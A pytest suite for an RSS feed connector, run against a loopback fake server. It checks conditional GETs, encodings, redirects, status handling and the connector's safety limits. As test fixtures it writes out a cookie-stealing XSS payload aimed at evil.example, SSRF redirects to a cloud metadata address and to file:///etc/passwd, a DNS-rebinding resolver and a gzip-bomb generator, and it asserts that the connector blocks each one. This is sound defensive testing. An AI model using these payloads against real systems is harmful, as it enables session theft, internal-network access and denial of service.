"""The feed connector against a loopback server: conditional GETs, limits, redirects, odd feeds."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest
from fakes.feeds import FeedServer, Item, Route, VirtualNetwork, rss, sample_items

from connectors.base import Cursor, FatalError, GoneError, RetriableError, SourceRef
from connectors.feeds import FeedConnector, normalise_link
from connectors.http import HttpClient, HttpLimits
from connectors.safety import UnsafeURLError

FAST = HttpLimits(connect_timeout=2, read_timeout=0.5, total_timeout=5, max_body_bytes=5 * 1024 * 1024, max_redirects=3)


@pytest.fixture
def server():
    """A loopback feed server for the test."""
    with FeedServer() as running:
        yield running


@pytest.fixture
def connector():
    """A feed connector allowed to read loopback, with short time limits."""
    return FeedConnector(HttpClient(allow_private=True, limits=FAST))


def read(connector, url, cursor=None):
    """Fetch the feed at ``url`` from ``cursor`` (a first read when None)."""
    return connector.fetch(SourceRef("rss", url, url), cursor or Cursor(url=url))


def test_well_formed_feed_gives_plain_records_and_validators(server, connector):
    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 3))))
    result = read(connector, url)
    assert [r.external_id for r in result.records] == ["acme-0", "acme-1", "acme-2"]
    first = result.records[0]
    assert first.title == "acme post 0"
    assert first.text == "Post 0 of acme."
    assert first.url == "https://blog.example/acme/0"
    assert first.published_at == datetime(2026, 11, 20, 12, tzinfo=timezone.utc)
    assert result.cursor.etag and result.cursor.last_modified
    assert not result.not_modified and result.warning is None


def test_conditional_get_answers_304_without_a_body_or_parsing(server, connector):
    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 3))))
    first = read(connector, url)
    sent_before = server.body_bytes["/feed.xml"]
    second = read(connector, url, first.cursor)
    assert second.not_modified and second.records == []
    assert second.cursor == first.cursor
    assert server.body_bytes["/feed.xml"] == sent_before


def test_last_modified_alone_is_enough_for_a_304(server, connector):
    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 1))))
    first = read(connector, url)
    result = read(connector, url, Cursor(url=url, last_modified=first.cursor.last_modified))
    assert result.not_modified


def test_ill_formed_feed_keeps_what_is_recovered_and_warns(server, connector):
    body = rss(sample_items("acme", 2)).replace(b"</channel></rss>", b"<item><title>broken & unclosed</title>")
    url = server.add("/broken.xml", Route(body=body))
    result = read(connector, url)
    assert {"acme-0", "acme-1"} <= {r.external_id for r in result.records}
    assert result.warning and result.warning.startswith("ill-formed feed")


@pytest.mark.parametrize(
    "body, content_type",
    [
        pytest.param(b"<html><body><h1>Welcome</h1></body></html>", "text/html", id="html-page"),
        pytest.param(b"\x00\x01\x02 not xml at all <<<", "application/octet-stream", id="garbage"),
    ],
)
def test_a_feed_with_no_usable_entries_is_an_error(server, connector, body, content_type):
    url = server.add("/nothing", Route(body=body, content_type=content_type))
    with pytest.raises(FatalError, match="not a readable feed"):
        read(connector, url)


def test_a_feed_whose_entries_are_all_empty_is_an_error(server, connector):
    items = [Item(title="", guid="e1", description="<p> </p>"), Item(title="  ", guid="e2")]
    url = server.add("/empty-entries.xml", Route(body=rss(items)))
    with pytest.raises(FatalError, match="no usable entries: its 2 entries carry neither a title nor any text"):
        read(connector, url)


def test_a_well_formed_feed_without_entries_is_quiet(server, connector):
    url = server.add("/new-blog.xml", Route(body=rss([])))
    result = read(connector, url)
    assert result.records == [] and result.warning is None


@pytest.mark.parametrize(
    "encoding, declare",
    [
        pytest.param("windows-1252", None, id="windows-1252"),
        pytest.param("iso-8859-1", None, id="iso-8859-1"),
        pytest.param("utf-16", None, id="utf-16"),
    ],
)
def test_odd_encodings_decode_to_the_right_characters(server, connector, encoding, declare):
    title = "Café naïve Ærø" + (" – “quoted”" if encoding == "windows-1252" else "")
    body = rss([Item(title=title, guid="g1", description="déjà vu")], encoding=encoding, declare=declare)
    url = server.add("/enc.xml", Route(body=body, content_type="application/rss+xml"))
    record = read(connector, url).records[0]
    assert record.title == title
    assert record.text == "déjà vu"


def test_xss_laden_entries_become_harmless_plain_text(server, connector):
    description = (
        '<script>document.location="https://evil.example/?c="+document.cookie</script>'
        '<p onclick="steal()">Real <img src=x onerror=alert(1)>news</p><style>body{display:none}</style>'
        '<iframe src="https://evil.example"></iframe>'
    )
    items = [Item(title="<b>Bold</b> &amp; <script>x()</script>title", link="javascript:alert(1)", guid="x1", description=description)]
    url = server.add("/xss.xml", Route(body=rss(items)))
    record = read(connector, url).records[0]
    assert record.text == "Real news"
    assert "script" not in record.title and "x()" not in record.title
    assert record.url is None  # javascript: links are never kept


@pytest.mark.parametrize(
    "route",
    [
        pytest.param(Route(huge_bytes=6 * 1024 * 1024), id="streamed-without-length"),
        pytest.param(Route(body=b"<rss>" + b" " * (5 * 1024 * 1024 + 10) + b"</rss>"), id="declared-length"),
    ],
)
def test_bodies_over_the_limit_are_refused(server, connector, route):
    url = server.add("/huge.xml", route)
    with pytest.raises(FatalError, match="byte limit"):
        read(connector, url)


def test_a_slow_server_times_out_as_retriable(server, connector):
    url = server.add("/slow.xml", Route(body=rss(sample_items("s", 1)), delay=2.0))
    with pytest.raises(RetriableError, match="timed out"):
        read(connector, url)


def test_permanent_redirect_moves_the_stored_url(server, connector):
    target = server.add("/new.xml", Route(body=rss(sample_items("moved", 1))))
    old = server.add("/old.xml", Route(status=301, location="/new.xml"))
    result = read(connector, old)
    assert result.cursor.url == target
    assert result.records[0].external_id == "moved-0"


def test_temporary_redirect_keeps_the_stored_url(server, connector):
    server.add("/today.xml", Route(body=rss(sample_items("t", 1))))
    url = server.add("/feed.xml", Route(status=302, location="/today.xml"))
    result = read(connector, url)
    assert result.cursor.url == url
    assert len(result.records) == 1


def test_a_permanent_hop_after_a_temporary_one_does_not_move_the_url(server, connector):
    server.add("/final.xml", Route(body=rss(sample_items("f", 1))))
    server.add("/middle.xml", Route(status=301, location="/final.xml"))
    url = server.add("/start.xml", Route(status=307, location="/middle.xml"))
    assert read(connector, url).cursor.url == url


def test_redirect_loops_stop(server, connector):
    url = server.add("/a", Route(status=302, location="/b"))
    server.add("/b", Route(status=302, location="/a"))
    with pytest.raises(FatalError, match="more than 3 redirects"):
        read(connector, url)


PUBLIC = "93.184.216.34"  # stands for a public host; the virtual network routes it to loopback


def public_name_resolver(host, port):
    """DNS of the tests' pretend internet: feeds.example is public, literals are themselves."""
    return [PUBLIC] if host == "feeds.example" else [host]


def public_url(server, path):
    """``path`` on the server, addressed by a public-looking name."""
    return f"http://feeds.example:{server.base_url.rsplit(':', 1)[1]}{path}"


@pytest.fixture
def internet(monkeypatch, server):
    """The loopback server appears as feeds.example at a public address; nothing else is routed."""
    return VirtualNetwork({PUBLIC: "127.0.0.1"}).install(monkeypatch)


def public_connector():
    """A feed connector that refuses private addresses, whose resolver answers for feeds.example."""
    return FeedConnector(HttpClient(allow_private=False, limits=FAST, resolver=public_name_resolver))


def test_a_redirect_to_a_private_address_is_refused_before_any_request(server, internet):
    server.add("/evil.xml", Route(status=302, location="http://169.254.169.254/latest/meta-data/"))
    with pytest.raises(UnsafeURLError, match="link-local"):
        read(public_connector(), public_url(server, "/evil.xml"))
    assert server.hits["/evil.xml"] == 1
    assert {host for host, _ in internet.attempts} == {PUBLIC}


def test_connections_go_to_the_vetted_address_with_the_name_as_host(server, internet):
    server.add("/feed.xml", Route(body=rss(sample_items("pub", 2))))
    connector = public_connector()
    url = public_url(server, "/feed.xml")
    first = read(connector, url)
    read(connector, url, first.cursor)
    assert [r.external_id for r in first.records] == ["pub-0", "pub-1"]
    assert server.hosts == [url.split("/")[2]] * 2  # the name, with its port, in the Host header
    assert internet.attempts == [(PUBLIC, int(url.split(":")[2].split("/")[0]))]  # one connection, kept alive


def test_a_name_that_rebinds_to_loopback_after_the_check_never_reaches_it(server, monkeypatch):
    # DNS rebinding: the name answers a public address when checked, loopback a moment later.
    answers = iter([[PUBLIC]])

    def rebinding(host, port):
        return next(answers, ["127.0.0.1"])

    network = VirtualNetwork(dns=rebinding).install(monkeypatch)  # PUBLIC itself is not routed
    server.add("/feed.xml", Route(body=rss(sample_items("internal", 1))))
    connector = FeedConnector(HttpClient(allow_private=False, limits=FAST, resolver=rebinding))
    with pytest.raises(RetriableError, match="could not connect"):
        read(connector, public_url(server, "/feed.xml"))
    assert server.hits["/feed.xml"] == 0
    assert [host for host, _ in network.attempts] == [PUBLIC]


def test_a_redirect_to_a_file_url_is_refused(server, internet):
    server.add("/to-file.xml", Route(status=302, location="file:///etc/passwd"))
    with pytest.raises(UnsafeURLError, match="only http and https"):
        read(public_connector(), public_url(server, "/to-file.xml"))
    assert server.hits["/to-file.xml"] == 1


def test_a_name_resolving_to_a_private_address_is_refused_without_a_request(server, internet):
    server.add("/feed.xml", Route(body=rss(sample_items("lan", 1))))
    connector = FeedConnector(HttpClient(allow_private=False, limits=FAST, resolver=lambda host, port: ["192.168.1.20"]))
    with pytest.raises(UnsafeURLError, match=r"feeds\.example resolves to 192\.168\.1\.20, which is a private-network"):
        read(connector, public_url(server, "/feed.xml"))
    assert server.hits["/feed.xml"] == 0 and internet.attempts == []


def test_a_loopback_feed_is_refused_unless_private_networks_are_allowed(server):
    url = server.add("/feed.xml", Route(body=rss(sample_items("a", 1))))
    with pytest.raises(UnsafeURLError, match="loopback"):
        read(FeedConnector(HttpClient(allow_private=False, limits=FAST)), url)
    assert server.hits["/feed.xml"] == 0


@pytest.mark.parametrize(
    "status, error, words",
    [
        pytest.param(401, FatalError, "asks for a login", id="401"),
        pytest.param(403, FatalError, "refuses us", id="403"),
        pytest.param(404, FatalError, "no feed at this address", id="404"),
        pytest.param(410, GoneError, "removed it for good", id="410"),
        pytest.param(400, FatalError, "HTTP 400", id="400"),
        pytest.param(500, RetriableError, "server error", id="500"),
        pytest.param(503, RetriableError, "server error", id="503"),
    ],
)
def test_statuses_are_classified_with_a_human_message(server, connector, status, error, words):
    url = server.add("/status", Route(status=status))
    with pytest.raises(error, match=words):
        read(connector, url)


def test_429_honours_retry_after(server, connector):
    url = server.add("/busy", Route(status=429, headers={"Retry-After": "120"}))
    with pytest.raises(RetriableError) as raised:
        read(connector, url)
    assert raised.value.retry_after == 120
    assert "rate limited" in raised.value.message


def test_identity_falls_back_to_the_normalised_link_then_a_hash(server, connector):
    items = [
        Item(title="linked", link="HTTPS://Blog.Example:443/post?utm_source=x&id=3#top"),
        Item(title="bare", description="no link, no guid"),
        Item(title="bare", description="no link, no guid"),
    ]
    url = server.add("/ids.xml", Route(body=rss(items)))
    ids = [r.external_id for r in read(connector, url).records]
    assert ids[0] == "https://blog.example/post?id=3"
    assert ids[1].startswith("sha256:") and ids[1] == ids[2]


def test_normalise_link_keeps_meaningful_parts():
    assert normalise_link("http://Example.com:8080/a/b?x=1") == "http://example.com:8080/a/b?x=1"


def test_a_refused_connection_is_retriable_and_says_so(connector):
    url = "http://127.0.0.1:9/feed.xml"  # the discard port: nothing listens on loopback here
    with pytest.raises(RetriableError, match="could not connect") as raised:
        read(connector, url)
    assert "timed out" not in raised.value.message


def test_validators_are_read_whatever_the_header_case(server, connector):
    headers = {"etag": '"lower"', "last-modified": "Sun, 01 Nov 2026 00:00:00 GMT", "retry-after": "1"}
    url = server.add("/case.xml", Route(body=rss(sample_items("c", 1)), validators=False, headers=headers))
    cursor = read(connector, url).cursor
    assert (cursor.etag, cursor.last_modified) == ('"lower"', "Sun, 01 Nov 2026 00:00:00 GMT")


def gzip_bomb(decompressed_bytes: int) -> bytes:
    """A gzip stream of zeros, built a megabyte at a time (about 1,000:1)."""
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: the gzip container
    block = bytes(1024 * 1024)
    parts = [packer.compress(block) for _ in range(decompressed_bytes // len(block))]
    return b"".join(parts) + packer.flush()


def test_a_gzip_bomb_is_refused_with_bounded_memory(server, connector):
    import tracemalloc

    bomb = gzip_bomb(200 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024  # small on the wire: only the decoded size can catch it
    url = server.add("/bomb.xml", Route(body=bomb, headers={"Content-Encoding": "gzip"}))
    tracemalloc.start()
    try:
        with pytest.raises(FatalError, match="byte limit"):
            read(connector, url)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # The limit is 5 MB of decoded body; decoding must not run far past it (urllib3 < 2.6
    # inflated each read whole: 64 KiB of this bomb is 64 MB).
    assert peak < 24 * 1024 * 1024
